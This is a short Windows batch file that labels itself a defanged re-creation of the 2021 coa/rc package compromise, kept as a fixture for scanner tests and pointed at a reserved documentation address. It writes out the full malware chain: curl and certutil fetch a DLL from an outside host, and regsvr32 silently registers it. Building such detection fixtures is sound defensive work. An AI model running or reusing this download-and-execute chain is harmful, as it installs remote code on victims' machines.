@echo off
REM DEFANGED re-creation (coa / rc 2021) for Bulwark's scanner tests. Never run. TEST-NET address.
set a=cer
set b=tutil
curl http://192.0.2.20/sdd.dll -o compile.dll
certutil.exe -urlcache -f http://192.0.2.20/sdd.dll sdd.dll
regsvr32.exe -s sdd.dll
